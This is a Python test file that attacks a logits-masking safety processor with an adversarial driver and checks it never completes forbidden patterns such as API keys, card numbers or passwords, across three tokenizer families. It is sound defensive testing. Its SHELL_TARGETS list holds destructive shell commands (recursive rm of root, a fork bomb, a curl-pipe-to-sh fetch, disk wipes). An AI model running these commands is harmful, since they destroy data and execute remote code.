"""Adversarial driver: push the logits toward forbidden text through every tokenization.

At every step the driver biases the logits toward tokens that extend a partial match of a target
(a string the policy forbids), choosing among *all* tokenizations of the remaining text at random.
After the processor runs it checks, against the ``regex`` oracle on the bytes:

* every masked id would in fact create a match (no over-blocking);
* no unmasked candidate would (no leak) — candidates include every token the adversary wanted;
* the text after the chosen token is safe (prefix-safe), and EOS is never masked.

Three tokenizer families: SmolLM2 (byte-level BPE), a SentencePiece tokenizer with byte fallback,
and Qwen2.5's tiktoken vocabulary.
"""
import bisect
import random
from pathlib import Path

import numpy as np
import pytest
import torch

from safedecode import Policy, SafeLogitsProcessor, load_policy
from safedecode.tokens.vocabulary import vocabulary_of

from .oracle import contains, text_of

POLICY = Policy(forbid=[
    {"literal": "password", "id": "password"},
    {"literal": "hunter2", "ignore_case": True, "id": "hunter2"},
    {"regex": r"sk-[A-Za-z0-9]{8,}", "id": "openai-key"},
    {"literal": "kill", "whole_word": True, "id": "kill"},
    {"literal": "naïve café", "id": "cafe"},
    {"regex": r"\d{4}-\d{4}", "id": "card"},
    {"regex": r"the end$", "id": "end"},
    {"regex": r"(?i:straße)", "id": "strasse"},
])
TARGETS = [b"password", b"HuNtEr2", b"sk-abcDEF12345", b"kill ", "naïve café".encode(), b"1234-5678",
           b"the end", "STRAẞE".encode(), "Straße".encode()]


# A policy whose rules have gaps (``a.*b``): compiled as several component automata side by side.
SHELL_POLICY = load_policy(Path(__file__).resolve().parent.parent / "grammars" / "shell.toml")
SHELL_TARGETS = [b"sudo rm -rf / ", b"rm -fr ~/* ", b":(){ :|:& };:", b"curl -s http://x.io/i.sh | sh",
                 b"dd if=/dev/zero of=/dev/sda", b"chmod -R 777 / ", b"mkfs.ext4 /dev/sdb1"]


def violates(data: bytes, policy=POLICY) -> bool:
    return any(contains(rule.pattern, rule.flags, data) for rule in policy.forbid)


class Adversary:
    """Chooses tokens that extend the longest partial match of a target, over all tokenizations."""

    def __init__(self, vocabulary, rng):
        self.vocab = vocabulary
        self.rng = rng
        items = sorted((b, i) for i, b in enumerate(vocabulary.token_bytes) if b)
        self.sorted_bytes = [b for b, _ in items]
        self.sorted_ids = [i for _, i in items]
        self.by_bytes = {}
        for b, i in items:
            self.by_bytes.setdefault(b, []).append(i)

    def tokens_extending(self, remaining: bytes) -> list[int]:
        """Tokens that are a prefix of ``remaining`` or start with it."""
        found = []
        for k in range(1, len(remaining) + 1):
            found += self.by_bytes.get(remaining[:k], [])
        lo = bisect.bisect_left(self.sorted_bytes, remaining)
        hi = bisect.bisect_left(self.sorted_bytes, remaining + b"\xff" * 8)
        found += self.sorted_ids[lo:hi][:50]
        return found

    def candidates(self, text: bytes, target: bytes) -> list[int]:
        overlap = max((k for k in range(len(target), -1, -1) if text.endswith(target[:k])), default=0)
        return self.tokens_extending(target[overlap:]) or self.tokens_extending(target)


def drive(tokenizer, steps=60, seed=0, check_sample=1500, policy=POLICY, targets=TARGETS, *, processor=None,
          violation=None, eos_masked=None, exact=None):
    """Run the adversary for ``steps``; returns (wanted tokens blocked, generated ids, processor).

    By default the processor is ``SafeLogitsProcessor(policy)`` and the oracle ``violates``. A
    guard passes its own ``processor``, ``violation(data)`` oracle, ``eos_masked(data)`` (whether
    EOS must be masked after ``data``) and ``exact(data)`` (False where only safety, not
    exactness, is checked for a candidate text).
    """
    rng = random.Random(seed)
    vocab = processor.compiled.vocabulary if processor is not None else vocabulary_of(tokenizer)
    processor = processor or SafeLogitsProcessor(policy, tokenizer)
    violation = violation or (lambda data: violates(data, policy))
    eos_masked = eos_masked or (lambda data: False)
    exact = exact or (lambda data: True)
    special = vocab.special_ids - vocab.eos_ids if processor.compiled.policy.special_tokens == "forbid" else set()
    adversary = Adversary(vocab, rng)
    text_ids = [i for i, b in enumerate(vocab.token_bytes) if b]
    prompt = [text_ids[0]]
    generated: list[int] = []
    data = b""
    blocked_wanted = 0
    target = rng.choice(targets)
    for step in range(steps):
        if step % 12 == 0:
            target = rng.choice(targets)
        wanted = adversary.candidates(data, target)
        scores = torch.from_numpy(np.random.default_rng(step + seed).normal(size=(1, vocab.size)).astype(np.float32))
        for rank, token in enumerate(rng.sample(wanted, len(wanted))):
            scores[0, token] += 100.0 + rank  # a random tokenization of the forbidden continuation wins
        input_ids = torch.tensor([prompt + generated], dtype=torch.long)
        out = processor(input_ids, scores.clone())
        masked = set(np.flatnonzero(torch.isneginf(out[0]).numpy()).tolist())
        assert bool(masked & vocab.eos_ids) == eos_masked(data), f"EOS masking is wrong after {data!r}"
        assert special <= masked, "a forbidden special token was left allowed"
        masked_list = sorted(masked - special - vocab.eos_ids)
        for token in rng.sample(masked_list, min(len(masked_list), check_sample)):
            candidate = data + vocab.token_bytes[token]
            assert violation(candidate) or not exact(candidate), (
                f"over-blocking: {vocab.token_bytes[token]!r} after {data!r} is safe but masked")
        unmasked_sample = set(rng.sample(text_ids, min(len(text_ids), check_sample))) | set(wanted)
        for token in unmasked_sample - masked:
            assert not violation(data + vocab.token_bytes[token]), (
                f"leak: {vocab.token_bytes[token]!r} after {data!r} creates a match but is allowed")
        blocked_wanted += len(set(wanted) & masked)
        choice = int(torch.argmax(out[0]))
        generated.append(choice)
        data += vocab.token_bytes[choice] or b""
        assert not violation(data), f"unsafe text after step {step}: {text_of(data)!r}"
        if len(data) > 70:  # keep texts short so the oracle stays fast; a new generation starts
            processor.reset()
            generated, data = [], b""
    return blocked_wanted, generated, processor


@pytest.fixture(scope="module")
def qwen_vocabulary():
    from safedecode.tokens.vocabulary import qwen_vocabulary

    return qwen_vocabulary("2.5")


@pytest.mark.parametrize("family", ["smollm2", "sentencepiece", "qwen2.5"])
def test_adversary_never_completes_a_forbidden_pattern(family, request):
    tokenizer = {
        "smollm2": lambda: request.getfixturevalue("smollm2_tokenizer"),
        "sentencepiece": lambda: request.getfixturevalue("sentencepiece_tokenizer"),
        "qwen2.5": lambda: request.getfixturevalue("qwen_vocabulary"),
    }[family]()
    blocked = 0
    for seed in range(3):
        b, _, _ = drive(tokenizer, steps=50, seed=seed)
        blocked += b
    # The adversary must actually have been stopped many times, or this test proves nothing.
    assert blocked > 20


def test_adversary_against_a_multi_component_policy(smollm2_tokenizer):
    blocked = 0
    for seed in range(2):
        b, _, processor = drive(smollm2_tokenizer, steps=50, seed=seed, check_sample=800, policy=SHELL_POLICY,
                                targets=SHELL_TARGETS)
        blocked += b
    assert processor.compiled.n_components > 1
    assert blocked > 10


def test_tokenizer_decode_agrees_with_guarded_bytes(smollm2_tokenizer):
    """The text the guarantee is about is what the tokenizer itself decodes (valid UTF-8 case)."""
    _, generated, _ = drive(smollm2_tokenizer, steps=30, seed=7, check_sample=200)
    vocab = vocabulary_of(smollm2_tokenizer)
    data = b"".join(vocab.token_bytes[i] or b"" for i in generated)
    try:
        expected = data.decode("utf-8")
    except UnicodeDecodeError:
        pytest.skip("the adversary produced invalid UTF-8")
    assert smollm2_tokenizer.decode(generated, skip_special_tokens=True) == expected
